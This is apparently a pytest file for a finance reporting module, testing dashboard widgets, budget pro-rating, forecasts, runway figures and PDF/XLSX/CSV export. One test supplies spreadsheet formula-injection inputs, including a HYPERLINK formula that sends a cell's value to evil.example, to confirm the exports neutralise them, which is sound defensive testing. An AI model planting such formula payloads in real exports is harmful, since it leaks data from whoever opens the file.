"""The report of a view without emulators: each widget's table holds the figures the dashboard's widget
shows (ranges, sums, ratios of sums, the month in progress to date), what each widget reads is listed
once, ready-made views resolve, and nothing exported executes."""

from __future__ import annotations

import io
import subprocess
from datetime import date
from decimal import Decimal

import pytest
from finance_core.periods import add_months, period_range
from finance_core.views import parse_template, starter_views
from openpyxl import load_workbook
from reports import formatting
from reports.schedules import ScheduleError, parse_schedule
from reports.tables import csv_rows, render_csv
from reports.view_pack import (
    ViewInputs,
    aggregate_read,
    build_view_report,
    dimension_months_read,
    heatmap_read,
    series_read,
    trend_read,
    variance_read,
    view_reads,
)
from reports.view_render import render_view_pdf, render_view_xlsx, section_chart_png
from reports.view_source import readable_by, ready_made

ANCHOR = "2026-11"
TODAY = date(2026, 11, 15)  # day 15 of 30: a flow's plan of the month counts half
MONTHS = period_range("2025-01", ANCHOR)


def _actual(i: int) -> dict[str, int]:
    revenue = 100_000 + 1_000 * i
    return {"revenue": revenue, "gross_profit": revenue * 2 // 5, "opex": 20_000 + 7 * i, "ebitda": revenue // 5}


def _series(values: dict[str, dict[str, int]]) -> dict:
    periods = sorted(values)
    metrics = sorted({m for v in values.values() for m in v})
    return {"periods": periods, "metrics": {m: [values[p].get(m) for p in periods] for m in metrics}}


ACTUAL = {p: _actual(i) for i, p in enumerate(MONTHS)}
BUDGET = {p: {"revenue": 120_000, "gross_profit": 50_000, "opex": 21_000, "ebitda": 24_000} for p in MONTHS}


def view(widgets: list[dict], name: str = "Board view"):
    return parse_template({"name": name, "widgets": widgets})


def inputs(v, documents=None, **extra) -> ViewInputs:
    base = {
        series_read("_all", "actual"): _series(ACTUAL),
        series_read("_all", "budget"): _series(BUDGET),
    }
    return ViewInputs(
        org_id="acme",
        org_name="Acme",
        currency="USD",
        period=ANCHOR,
        in_progress=extra.pop("in_progress", ANCHOR),
        today=TODAY,
        view_id="v1",
        view=v,
        documents={**base, **(documents or {})},
        **extra,
    )


def cells(report, widget_id: str) -> dict[str, dict]:
    section = next(s for s in report.sections if s.widget_id == widget_id)
    return {row.key: dict(row.cells) for row in section.table.rows}


def test_a_kpi_card_in_the_month_in_progress_compares_with_its_budget_to_date():
    v = view([{"id": "rev", "type": "kpi", "range": "this_month", "metrics": ["revenue"], "compare": "budget"}])
    row = cells(build_view_report(inputs(v)), "rev")["metric:revenue"]
    value = ACTUAL[ANCHOR]["revenue"]
    assert row["value"] == value == 122_000
    assert row["comparison"] == 60_000  # 120,000 x 15 / 30
    assert row["change"] == value - 60_000
    assert row["change_pct"] == Decimal("103.3333")
    assert row["favourable"] is True


def test_a_closed_month_compares_with_the_whole_budget():
    v = view([{"id": "rev", "type": "kpi", "range": "this_month", "metrics": ["revenue"], "compare": "budget"}])
    row = cells(build_view_report(inputs(v, in_progress="2026-12")), "rev")["metric:revenue"]
    assert row["comparison"] == 120_000


def test_a_margin_over_a_range_is_the_ratio_of_its_summed_parts_and_changes_in_points():
    v = view([{"id": "gm", "type": "kpi", "range": "ytd", "metrics": ["gross_margin_pct"], "compare": "previous_year"}])
    documents = {
        series_read("_all", "actual"): _series(
            {p: {**ACTUAL[p], "gross_margin_pct": 99.0} for p in MONTHS}  # a stored monthly ratio is not summed
        )
    }
    row = cells(build_view_report(inputs(v, documents)), "gm")["metric:gross_margin_pct"]
    ytd = period_range("2026-01", ANCHOR)
    last = [add_months(p, -12) for p in ytd]
    share = lambda ps: (  # noqa: E731
        Decimal(100) * sum(ACTUAL[p]["gross_profit"] for p in ps) / sum(ACTUAL[p]["revenue"] for p in ps)
    ).quantize(Decimal("0.0001"))
    assert row["value"] == share(ytd)
    assert row["comparison"] == share(last)
    assert row["change"] == share(ytd) - share(last)
    assert row["change_pct"] is None  # a percentage changes in points only


def test_a_gauge_reads_its_budget_to_date_or_a_fixed_target_in_minor_units():
    v = view(
        [
            {"id": "g1", "type": "gauge", "range": "ytd", "metrics": ["revenue"], "target": "budget"},
            {"id": "g2", "type": "gauge", "range": "last_month", "metrics": ["revenue"], "target": "2000.50"},
        ]
    )
    report = build_view_report(inputs(v))
    ytd = period_range("2026-01", ANCHOR)
    g1 = cells(report, "g1")["metric:revenue"]
    assert g1["value"] == sum(ACTUAL[p]["revenue"] for p in ytd)
    assert g1["target"] == 10 * 120_000 + 60_000
    assert g1["share"] == (Decimal(g1["value"]) * 100 / Decimal(g1["target"])).quantize(Decimal("0.0001"))
    g2 = cells(report, "g2")["metric:revenue"]
    assert g2["target"] == 200_050 and g2["value"] == ACTUAL["2026-10"]["revenue"]


def test_a_table_and_a_time_series_show_each_month_and_the_range_total():
    v = view(
        [
            {"id": "t", "type": "table", "range": "this_quarter", "metrics": ["revenue", "opex"]},
            {"id": "ts", "type": "timeseries", "range": "last_3_months", "metrics": ["revenue"], "compare": "budget"},
        ]
    )
    report = build_view_report(inputs(v))
    table = cells(report, "t")
    assert table["metric:revenue"]["2026-10"] == ACTUAL["2026-10"]["revenue"]
    assert table["metric:opex"]["total"] == ACTUAL["2026-10"]["opex"] + ACTUAL["2026-11"]["opex"]
    series = cells(report, "ts")
    assert series["metric:revenue"] == {p: ACTUAL[p]["revenue"] for p in period_range("2026-09", ANCHOR)}
    assert series["budget:revenue"] == {p: 120_000 for p in period_range("2026-09", ANCHOR)}
    section = next(s for s in report.sections if s.widget_id == "ts")
    assert [line.dashed for line in section.chart_lines] == [False, True]
    assert section_chart_png(section, "USD").startswith(b"\x89PNG")


def test_a_pnl_block_pro_rates_flows_only_and_a_variance_list_is_not_judged_in_progress():
    v = view(
        [
            {"id": "pnl", "type": "pnl", "range": "this_month"},
            {"id": "var", "type": "variance", "range": "this_month"},
        ]
    )
    top = [
        {
            "account_id": "6100",
            "account_name": "Payroll",
            "actual_minor": 30_000,
            "comparison_minor": 40_000,
            "variance_minor": -10_000,
            "favourable": True,
        }
    ]
    documents = {
        aggregate_read("_all", ANCHOR, "actual", None, None): {
            "metrics": {"revenue": 70_000, "gross_margin_pct": 41.5}
        },
        aggregate_read("_all", ANCHOR, "budget", None, None): {"metrics": {"revenue": 120_000, "gross_margin_pct": 40}},
        variance_read("_all", ANCHOR): {"vs_budget": {"top": top}},
    }
    report = build_view_report(inputs(v, documents))
    pnl = cells(report, "pnl")
    assert pnl["metric:revenue"] == {
        "actual": 70_000,
        "budget": 60_000,
        "variance": 10_000,
        "favourable": True,
        "forecast": None,  # no trend document: no forecast
    }
    assert pnl["metric:gross_margin_pct"]["budget"] == 40  # a ratio compares as it is
    assert pnl["metric:gross_margin_pct"]["variance"] == Decimal("1.5")
    variance = cells(report, "var")["account:6100"]
    assert variance["favourable"] is None and variance["share"] == Decimal("75.0000")
    judged = cells(build_view_report(inputs(v, documents, in_progress="2026-12")), "var")["account:6100"]
    assert judged["favourable"] is True


def test_a_heat_map_lists_declared_values_in_order_and_each_cell_is_its_document():
    v = view(
        [{"id": "heat", "type": "heatmap", "range": "last_3_months", "metrics": ["revenue"], "dimension": "region"}]
    )
    dimensions = {"region": {"label": "Region", "values": ["emea", "amer", "apac"]}}
    docs = [
        {"value": "amer", "period": "2026-10", "metrics": {"revenue": 5}},
        {"value": "emea", "period": "2026-11", "metrics": {"revenue": 7}},
    ]
    shell = inputs(v, dimensions=dimensions)
    read = heatmap_read("region", ("emea", "amer", "apac"), "_all", _range("last_3_months"))
    assert read in view_reads(shell)
    report = build_view_report(inputs(v, {read: docs}, dimensions=dimensions))
    heat = cells(report, "heat")
    assert list(heat) == ["value:emea", "value:amer"]  # declared order, values with figures
    assert heat["value:emea"] == {"2026-09": None, "2026-10": None, "2026-11": 7}
    assert heat["value:amer"]["2026-10"] == 5


def _range(text: str):
    from finance_core.views import resolve_range

    return resolve_range(text, ANCHOR)


def test_a_dimension_filter_reads_that_values_months_once():
    v = view(
        [
            {
                "id": "k",
                "type": "kpi",
                "range": "this_month",
                "metrics": ["revenue"],
                "compare": "previous_period",
                "dimension": "department",
                "value": "sales",
            }
        ]
    )
    read = dimension_months_read("department", "sales", "_all", "actual", _range("last_2_months"))
    assert view_reads(inputs(v)) == [read]
    docs = [
        {"period": "2026-10", "metrics": {"revenue": 400}},
        {"period": "2026-11", "metrics": {"revenue": 300}},
    ]
    row = cells(build_view_report(inputs(v, {read: docs})), "k")["metric:revenue"]
    assert row["value"] == 300 and row["comparison"] == 200  # October's 400 to date: half


def test_formula_like_names_never_execute_in_the_pdf_the_workbook_or_the_csv(tmp_path):
    v = view(
        [
            {"id": "k", "type": "kpi", "range": "this_month", "metrics": ["arr"], "title": "@SUM(A1:A9)"},
            {"id": "t", "type": "table", "range": "this_month", "metrics": ["revenue", "arr"]},
        ],
        name='=HYPERLINK("http://evil.example/?x="&A1,"Board")',
    )
    definitions = {"arr": {"label": "=1+2", "unit": "ratio", "direction": "higher_is_better", "expression": "x"}}
    documents = {series_read("_all", "actual"): _series({p: {**ACTUAL[p], "arr": 1} for p in MONTHS})}
    report = build_view_report(inputs(v, documents, definitions=definitions))
    assert report.view_name.startswith("'=HYPERLINK")
    workbook = load_workbook(io.BytesIO(render_view_xlsx(report)))
    texts = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in texts if c.value[:1] in "=+-@"]
    assert risky == [] and all(c.data_type == "s" for c in texts)
    assert any(c.value == "'=1+2" for c in texts) and any(c.value == "'@SUM(A1:A9)" for c in texts)
    csv_text = render_csv(csv_rows(report.sections[1].table, "USD")).decode("utf-8-sig")
    assert "'=1+2" in csv_text and "\n=" not in csv_text
    pdf = tmp_path / "view.pdf"
    pdf.write_bytes(render_view_pdf(report, {}))
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "'=HYPERLINK" in text and "'@SUM(A1:A9)" in text


def test_the_workbook_holds_the_figures_to_the_minor_unit():
    v = view([{"id": "rev", "type": "kpi", "range": "ytd", "metrics": ["revenue"], "compare": "budget"}])
    report = build_view_report(inputs(v))
    row = cells(report, "rev")["metric:revenue"]
    sheet = load_workbook(io.BytesIO(render_view_xlsx(report))).worksheets[1]
    header = [c.value for c in sheet[4]]
    values = [c.value for c in sheet[5]]
    assert formatting.minor_from_excel(values[header.index("Value")], "USD") == row["value"]
    assert formatting.minor_from_excel(values[header.index("Budget")], "USD") == row["comparison"]


def test_ready_made_views_resolve_from_the_core_and_personal_views_are_their_owners():
    dimensions = {"department": {"label": "Department", "values": ["sales", "ops"]}}
    assert ready_made("starter-overview", {}).name == starter_views()["starter-overview"]["name"]
    assert ready_made("scorecard.department.sales", dimensions).name == "Scorecard: Department sales"
    assert ready_made("scorecard.department.hr", dimensions) is None
    assert ready_made("heatmap.department", dimensions).name == "Heat map: Department"
    assert ready_made("heatmap.region", dimensions) is None
    personal = parse_template({"name": "Mine", "visibility": "personal", "widgets": []}, owner="u1")
    assert readable_by(personal, "u1") and not readable_by(personal, "u2")
    assert not readable_by(personal, "schedule:u1")
    assert readable_by(ready_made("starter-budget", {}), "schedule:cfo")


def test_a_schedule_may_name_a_view_by_its_id():
    schedule = parse_schedule("s", {"trigger": "month_end", "recipients": ["a@b.c"], "view_id": "starter-budget"})
    assert schedule.view_id == "starter-budget"
    with pytest.raises(ScheduleError, match="view_id"):
        parse_schedule("s", {"trigger": "month_end", "recipients": ["a@b.c"], "view_id": "a__b"})


def _trend(fitted_through: str, forecast: dict[str, int]) -> dict:
    months = period_range("2026-01", fitted_through)
    return {
        "series": [{"period": p, "value_minor": ACTUAL[p]["revenue"]} for p in months],
        "forecast": [
            {"period": p, "value_minor": v, "lower_minor": v - 9, "upper_minor": v + 9} for p, v in forecast.items()
        ],
    }


def test_a_pnl_blocks_forecast_is_the_stored_trends_when_fitted_before_the_month():
    v = view([{"id": "pnl", "type": "pnl", "range": "this_month"}])
    documents = {trend_read("revenue"): _trend("2026-10", {"2026-11": 123_456, "2026-12": 130_000})}
    assert trend_read("revenue") in view_reads(inputs(v))
    report = build_view_report(inputs(v, documents))
    pnl = cells(report, "pnl")
    assert pnl["metric:revenue"]["forecast"] == 123_456
    assert pnl["metric:ebitda"]["forecast"] is None and "forecast" not in pnl["metric:gross_margin_pct"]
    section = report.sections[0]
    assert [c.title for c in section.table.columns_in("sheet")][-1] == "Forecast"


def test_a_past_months_forecast_is_fitted_on_the_months_before_it_never_on_later_ones():
    from finance_core.trends import analyze_trend

    v = view([{"id": "pnl", "type": "pnl", "range": "last_month"}])  # 2026-10, while trends know 2026-10 on
    stored = {trend_read("revenue"): _trend("2026-10", {"2026-11": 999})}
    report = build_view_report(inputs(v, stored))
    forecast = cells(report, "pnl")["metric:revenue"]["forecast"]
    run = [(p, ACTUAL[p]["revenue"]) for p in MONTHS if p < "2026-10"]
    assert forecast == int(analyze_trend(run, horizon=3).forecast[0].value_minor) and forecast != 999
    assert any("fitted on the complete months up to 2026-09" in n for n in report.sections[0].notes)
    # Later months change nothing.
    later = {p: ({**ACTUAL[p], "revenue": 1} if p >= "2026-10" else ACTUAL[p]) for p in MONTHS}
    changed = build_view_report(inputs(v, {**stored, series_read("_all", "actual"): _series(later)}))
    assert cells(changed, "pnl")["metric:revenue"]["forecast"] == forecast


def test_an_entitys_or_a_dimension_values_pnl_has_no_forecast_column():
    v = view(
        [
            {"id": "east", "type": "pnl", "range": "this_month", "entity_id": "us-east"},
            {"id": "sales", "type": "pnl", "range": "this_month", "dimension": "department", "value": "sales"},
        ]
    )
    report = build_view_report(inputs(v))
    for section in report.sections:
        assert "Forecast" not in [c.title for c in section.table.columns_in("sheet")]
    assert not any(read[0] == "trend" for read in view_reads(inputs(v)))


def test_a_kpi_card_and_a_gauge_of_burn_and_runway_show_the_cash_forecasts_figure():
    from finance_core.cash import cash_runway
    from reports.view_pack import cash_forecast_read

    v = view(
        [
            {"id": "runway", "type": "kpi", "range": "this_month", "metrics": ["runway_months"], "compare": "budget"},
            {"id": "burn", "type": "gauge", "range": "ytd", "metrics": ["net_burn"], "target": "10000.00"},
        ]
    )
    # The library's monthly formula says something else: the card must not show it.
    monthly = {p: {**ACTUAL[p], "runway_months": 12.5, "net_burn": 1} for p in MONTHS}
    runway = cash_runway(Decimal(-1350_00), 39_200_00, TODAY).as_document()  # 6.7 months, 5,850.00 a month
    documents = {series_read("_all", "actual"): _series(monthly), cash_forecast_read(): {"runway": runway}}
    built = inputs(v, documents, definitions={"runway_months": {"label": "Runway (months)", "unit": "months"}})
    assert view_reads(built) == [cash_forecast_read()]
    report = build_view_report(built)
    assert cells(report, "runway")["metric:runway_months"] == {"value": Decimal("6.7")}
    notes = next(s for s in report.sections if s.widget_id == "runway").notes
    assert notes[0] == "13-week cash forecast as of 2026-11-15: burning, runway 6.7 months."
    assert "No comparison" in notes[1]
    gauge = cells(report, "burn")["metric:net_burn"]
    assert gauge == {"value": 5850_00, "target": 10000_00, "share": Decimal("58.5000")}

    # Not burning: no runway, a burn of 0; a report of an earlier month shows none (the forecast is live).
    calm = cash_runway(Decimal(10_00), 39_200_00, TODAY).as_document()
    report = build_view_report(inputs(v, {**documents, cash_forecast_read(): {"runway": calm}}))
    assert cells(report, "runway")["metric:runway_months"]["value"] is None
    assert "not burning" in next(s for s in report.sections if s.widget_id == "runway").notes[0]
    assert cells(report, "burn")["metric:net_burn"]["value"] == 0
    earlier = build_view_report(inputs(v, documents, in_progress="2026-12"))
    assert cells(earlier, "runway")["metric:runway_months"]["value"] is None
